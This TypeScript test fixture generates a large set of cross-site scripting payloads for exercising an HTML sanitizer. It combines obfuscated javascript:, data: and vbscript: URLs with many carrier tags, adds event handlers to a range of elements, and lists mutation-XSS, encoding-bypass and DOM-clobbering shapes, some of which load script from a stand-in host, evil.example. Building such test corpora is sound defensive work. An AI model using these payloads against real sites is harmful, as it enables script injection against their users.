/** Markup that tries to run, to navigate or to smuggle. Invented for these tests; each stands in the middle of a story. */
const schemes = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', '\tjavascript:alert(1)', 'java\nscript:alert(1)',
  'java\tscript:alert(1)', '&#106;avascript:alert(1)', '&#x6A&#x61vascript:alert(1)', 'javascript&colon;alert(1)',
  'javascript&#0000058alert(1)', '\u0001javascript:alert(1)', '\u0000javascript:alert(1)', 'vbscript:msgbox(1)', 'livescript:x',
  'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD4=', 'data:image/svg+xml,<svg onload=alert(1)>',
  'DATA:text/html,x', 'blob:https://paper.example/1', 'filesystem:https://paper.example/x', 'file:///etc/passwd', 'about:blank',
  'view-source:javascript:1', 'feed:javascript:alert(1)', 'jar:https://x!/y', 'intent://x#Intent;end', 'ws://paper.example',
  'ftp://paper.example/x', 'mhtml:https://paper.example', 'https:javascript:alert(1)', 'mailto:a@b.example"onclick="alert(1)', "tel:1'><script>alert(1)</script>",
  'https://paper.example/"onmouseover="alert(1)', 'https://paper.example/<script>', '//evil.example/%22onerror=%22', 'http://[::1', '\\\\evil.example\\x',
]; // biome-ignore format: a table

const carriers = [
  (url: string) => `<a href="${url}">link text</a>`,
  (url: string) => `<img src="${url}" width="600" height="400">`,
  (url: string) => `<img data-src="${url}" srcset="${url} 2x" alt="seen">`,
  (url: string) => `<picture><source srcset="${url}"><img src="${url}"></picture>`,
  (url: string) => `<iframe src="${url}" data-src="${url}"></iframe>`,
  (url: string) => `<div style="background:url(${url})" data-bg="${url}"></div>`,
  (url: string) => `<blockquote class="wp-embedded-content" cite="${url}">quoted<a href="${url}">x</a></blockquote>`,
  (url: string) => `<amp-img src="${url}"></amp-img><amp-iframe src="${url}"></amp-iframe>`,
  (url: string) => `<table background="${url}"><tr><td background="${url}">cell<td>cell</table>`,
  (url: string) => `<form action="${url}"><button formaction="${url}">go</button><input src="${url}" type="image"></form>`,
  (url: string) => `<object data="${url}"></object><embed src="${url}"><link rel="import" href="${url}">`,
  (url: string) => `<svg><a xlink:href="${url}"><text>x</text></a><use href="${url}"/></svg><math href="${url}">x</math>`,
  (url: string) => `<video src="${url}" poster="${url}"><source src="${url}"></video><audio src="${url}"></audio>`,
  (url: string) => `<meta http-equiv="refresh" content="0;url=${url}"><base href="${url}">`,
]; // biome-ignore format: a table

const run = 'alert(1)';
const tags = [
  'b',
  'p',
  'a',
  'img',
  'td',
  'div',
  'li',
  'h2',
  'figure',
  'blockquote',
  'body',
  'html',
  'custom-tag',
  'ruby',
];
const handlers = [
  'onclick',
  'onerror',
  'ONLOAD',
  'onfocus autofocus',
  'onanimationstart',
  'onpointerenter',
  'onbeforetoggle',
  'on\u0130x',
];

/** Those that no table makes. */
export const shapes: readonly string[] = [
  `<script>${run}</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<script/x>${run}</script/y>`, `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<<script>${run}//<</script>`, `<script><!--<script>${run}</script>-->${run}</script>`, `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<noscript><img src="/x.jpg" alt="</noscript><script>${run}</script>"></noscript>`, `<xmp><p title="</xmp><script>${run}</script>"></xmp>`,
  `<noembed><img title="</noembed><img src=x onerror=${run}>"></noembed>`, `<noframes><style></noframes><img src=x onerror=${run}>`,
  `<textarea><p title="</textarea><svg onload=${run}>"></textarea>`, `<title><p title="</title><img src=x onerror=${run}>"></title>`,
  `<style><p title="</style><img src=x onerror=${run}>"></style>`, `<iframe srcdoc="<script>${run}</script>"></iframe>`, `<iframe srcdoc=&lt;script&gt;${run} src="https://www.youtube.com/embed/x"></iframe>`,
  `<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>`, `<iframe src="https://www.youtube.com@evil.example/embed/x"></iframe>`, `<iframe src="https://www.youtube.com/redirect?q=x"></iframe>`,
  `<iframe src="https://www.youtube.com/embed/../../redirect"></iframe>`, `<iframe src="https://www.youtube.com\\.evil.example/embed/"></iframe>`,
  `<svg><style><img src=x onerror=${run}></style></svg>`, `<svg><foreignObject><body onload=${run}></foreignObject></svg>`, `<svg><animate attributeName=href values=javascript:${run} /></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`, `<math><annotation-xml encoding="text/html"><script>${run}</script></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`, `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`, `<table><caption><svg><desc><td><style></table><img src=x onerror=${run}>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=${run}>">`, `<template><script>${run}</script><img src=x onerror=${run}></template>`,
  `<!--><img src=x onerror=${run}>-->`, `<!--- <img src=x onerror=${run}> --!><img src=x onerror=${run}>`, `<![CDATA[<img src=x onerror=${run}>]]>`, `<?xml version="1.0"?><?php <img src=x onerror=${run}> ?>`, `<!DOCTYPE x [<!ENTITY y "<script>">]>&y;`,
  `&lt;script&gt;${run}&lt;/script&gt;`, `&amp;lt;img src=x onerror=${run}&amp;gt;`, `&#60;img src=x onerror=${run}&#62;`, `&#x3c;svg/onload=${run}&#x3e;`, `&lt&#x2f;p&gt<img/src=x/onerror=${run}>`,
  `<img alt="&quot;&gt;&lt;script&gt;${run}&lt;/script&gt;" src="/a.jpg">`, `<img src="/a.jpg" alt='"onerror="${run}'>`, `<img src='/a.jpg?"onerror="${run}'>`, `<a href='/x"onclick="${run}'>x</a>`, `<a href="/x\`onclick=\`${run}">x</a>`,
  `<img src=/a.jpg\u00a0onerror=${run}>`, `<img\u000bsrc=x onerror=${run}>`, `<img\u000csrc=x\u000conerror=${run}>`, `<\u0000script>${run}</script>`, `<scr\u0000ipt>${run}</scr\u0000ipt>`, `<img src="x\u0000" onerror=${run}>`, `<\u212aeygen autofocus onfocus=${run}>`, `<\u017fcript>${run}</\u017fcript>`,
  `<p style="width:expression(${run})">x</p>`, `<p style="behavior:url(x.htc);-moz-binding:url(x)">x</p>`, `<link rel=stylesheet href=//evil.example><style>@import '//evil.example'</style>`, `<base href="javascript:/a/-${run}//">`,
  `<details open ontoggle=${run}><summary>s</summary>d</details>`, `<dialog open onclose=${run}>d</dialog>`, `<marquee onstart=${run}>m</marquee>`, `<portal src=javascript:${run}>`, `<isindex action=javascript:${run} type=image>`,
  `<a href=x id=location name=cookie>clobber</a><form id=document name=body><input name=parentNode></form>`, `<embed src=//evil.example/x.swf allowscriptaccess=always>`, `<applet code=x></applet><bgsound src=x><layer src=x><ilayer src=x>`,
  `<img src=x onerror=${run}`, `<p class="x" "onclick=${run}">x</p>`, `<div/onmouseover=${run}/>x`, `<pre><script>${run}</script>&lt;b onclick=1></pre>`, `<code>&lt;img src=x onerror=${run}&gt;</code>`, `<pre>\n\n</pre><listing>\n<script>${run}</script></listing>`,
  `<th colspan="2 onclick=${run}" rowspan='1"onload="1'>x</th>`, `<figure><img src="/a.jpg"><figcaption><script>${run}</script>&lt;script&gt;<b onclick=1>c</b></figcaption></figure>`, `<plaintext><script>${run}</script>`,
]; // biome-ignore format: a table

/** All payloads: schemes in every carrier, handlers on every tag, and shapes. */
export const payloads: readonly string[] = [
  ...schemes.flatMap((url) => carriers.map((carry) => carry(url))),
  ...tags.flatMap((tag) =>
    handlers.map((handler) => `<${tag} ${handler}="${run}" src=/a.jpg href=/b>text</${tag}>`),
  ),
  ...shapes,
];
